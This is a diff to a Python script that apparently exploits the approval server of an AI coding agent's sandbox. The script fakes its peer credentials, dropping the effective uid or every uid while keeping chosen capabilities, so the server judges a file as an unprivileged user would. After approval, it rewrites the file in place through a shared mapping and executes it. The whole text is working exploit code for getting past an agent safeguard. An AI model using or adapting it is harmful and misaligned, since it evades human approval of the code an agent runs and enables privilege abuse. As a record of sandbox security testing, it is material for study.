@@ -1,19 +1,34 @@
-"""Root, unsandboxed: make the escalation server judge the file as for uid 65534 (SO_PEERCRED
-of a socketpair made under a dropped euid), get a Run, rewrite the file through a shared
-mapping (change time and size kept), execveat the fd.
-usage: euidq.py FILE SOURCE ARGV0..."""
+"""Root, unsandboxed, in disguise: make the escalation server judge the file as for uid 65534,
+get a Run, rewrite the file through a shared mapping (change time and size kept), execveat the
+fd. HOW is ``euid`` (only the effective uid dropped while the socketpair is made: SO_PEERCRED is
+taken then; root back after) or ``caps`` (every uid 65534, CAP_DAC_OVERRIDE, CAP_FOWNER and
+CAP_SETUID kept: PR_SET_KEEPCAPS, capset).
+usage: root_disguise_query.py HOW FILE SOURCE ARGV0..."""
 import ctypes, errno, json, mmap, os, socket, struct, sys
-file, source, argv = sys.argv[1], sys.argv[2], sys.argv[3:]
+how, file, source, argv = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
+if how == "caps":
+    libc0 = ctypes.CDLL(None, use_errno=True)
+    libc0.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS: the permitted set survives the uid change
+    os.setgroups([])
+    os.setresgid(65534, 65534, 65534)
+    os.setresuid(65534, 65534, 65534)  # every uid: /proc status holds no 0 now
+    keep = (1 << 1) | (1 << 3) | (1 << 7)  # CAP_DAC_OVERRIDE, CAP_FOWNER, CAP_SETUID
+    hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
+    data = (ctypes.c_uint32 * 6)(keep, keep, 0, 0, 0, 0)  # effective, permitted, inheritable (low words)
+    assert libc0.capset(hdr, data) == 0, ctypes.get_errno()
 fd = os.open(file, os.O_RDWR)
 mapped = mmap.mmap(fd, os.fstat(fd).st_size, mmap.MAP_SHARED)
 os.close(fd)
 for page in range(0, len(mapped), mmap.PAGESIZE):
     mapped[page] = mapped[page]
 dgram = socket.socket(fileno=os.dup(int(os.environ["CODEX_ESCALATE_SOCKET"])))
-os.setresuid(-1, 65534, -1)  # euid only: SO_PEERCRED of the pair is taken now
+if how == "euid":
+    os.setresuid(-1, 65534, -1)  # euid only: SO_PEERCRED of the pair is taken now
 mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
-os.setresuid(-1, 0, -1)
-print("EUID BACK", os.geteuid(), flush=True)
+if how == "euid":
+    os.setresuid(-1, 0, -1)
+caps = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
+print("EUID BACK", os.geteuid(), "CAPS", caps, flush=True)
 dgram.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", theirs.fileno()))])
 theirs.close()
 target = os.open(file, os.O_PATH | os.O_CLOEXEC)
